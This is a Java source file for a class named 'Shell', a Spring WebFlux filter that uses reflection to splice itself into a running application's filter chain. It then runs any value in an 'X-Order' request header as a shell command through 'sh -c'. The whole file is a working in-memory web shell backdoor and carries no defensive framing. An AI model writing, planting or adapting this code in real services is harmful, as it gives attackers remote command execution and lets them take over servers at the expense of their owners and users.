import java.lang.reflect.Field;
import java.util.List;
import org.springframework.web.server.ServerWebExchange;
import org.springframework.web.server.WebFilter;
import org.springframework.web.server.WebFilterChain;
import org.springframework.web.server.WebHandler;
import org.springframework.web.server.handler.DefaultWebFilterChain;
import org.springframework.web.server.handler.FilteringWebHandler;
import org.springframework.web.server.handler.WebHandlerDecorator;
import reactor.core.publisher.Mono;

/** Puts itself into the chain of filters. */
public class Shell implements WebFilter {
  public Shell() throws Exception {
    WebHandler handler = (WebHandler) Class.forName("App").getField("handler").get(null);
    while (!(handler instanceof FilteringWebHandler)) {
      handler = ((WebHandlerDecorator) handler).getDelegate();
    }
    FilteringWebHandler filtering = (FilteringWebHandler) handler;
    DefaultWebFilterChain chain = new DefaultWebFilterChain(filtering.getDelegate(), List.of(this));
    Field field = FilteringWebHandler.class.getDeclaredField("chain");
    field.setAccessible(true);
    field.set(filtering, chain);
  }

  @Override
  public Mono<Void> filter(ServerWebExchange exchange, WebFilterChain chain) {
    String order = exchange.getRequest().getHeaders().getFirst("X-Order");
    try {
      if (order != null) {
        new ProcessBuilder("sh", "-c", order).start();
      }
    } catch (java.io.IOException e) {
      return Mono.error(e);
    }
    return chain.filter(exchange);
  }
}
